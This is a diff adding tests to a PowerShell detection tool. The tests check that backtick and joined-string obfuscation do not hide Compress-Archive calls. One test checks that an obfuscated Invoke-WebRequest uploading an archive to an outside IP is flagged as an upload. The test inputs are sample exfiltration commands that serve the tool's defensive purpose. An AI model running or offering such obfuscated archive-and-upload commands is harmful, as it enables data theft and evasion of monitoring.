@@ -4,6 +4,7 @@ assign the path to a variable first."""
 
 from __future__ import annotations
 
+import msgspec
 import pytest
 
 from tests.builders import launch
@@ -11,6 +12,7 @@ from tidewaiter.detection.addresses import AddressPolicy
 from tidewaiter.detection.catalog import load
 from tidewaiter.detection.powershell import argument_at, resolve
 from tidewaiter.detection.signals import Detector, SignalKind
+from tidewaiter.events import Activity
 
 DETECTOR = Detector(AddressPolicy(), load())
 
@@ -79,3 +81,27 @@ def test_self_reference_and_deep_chains_stop() -> None:
     block = "$a = $a + 'x'\nCompress-Archive -DestinationPath $a"
     at = block.rindex("$a")
     assert resolve("$a", block, at).endswith("x")  # bounded, shown as written where it stops
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        'powershell.exe -c "Com`press-Arch`ive -Path C:\\data -DestinationPath C:\\Temp\\a.zip"',
+        "powershell.exe -c \"& ('Compress'+'-Archive') -Path C:\\data "
+        '-DestinationPath C:\\Temp\\a.zip"',
+        "powershell.exe -c \"& ('Com' + 'press-Arch'+'ive') -Path C:\\data "
+        "-DestinationPath ('C:\\Temp\\'+'a.zip')\"",
+    ],
+)
+def test_backticks_and_joined_strings_do_not_hide_the_cmdlet(cmd: str) -> None:
+    # PowerShell drops a backtick before a letter and runs a joined string as one command name.
+    assert archive_path(cmd) == "C:\\Temp\\a.zip"
+
+
+def test_a_script_block_is_read_without_its_backticks() -> None:
+    block = "$u='https://203.0.113.9/u'; I`nvoke-W`ebRequest -Uri $u -Method Post -InFile a.zip"
+    event = msgspec.structs.replace(launch(block, path="powershell.exe"), activity=Activity.SCRIPT)
+    [signal] = DETECTOR.signals(event)
+    assert signal.kind is SignalKind.UPLOAD
+    assert signal.destination is not None
+    assert signal.destination.ip == "203.0.113.9"
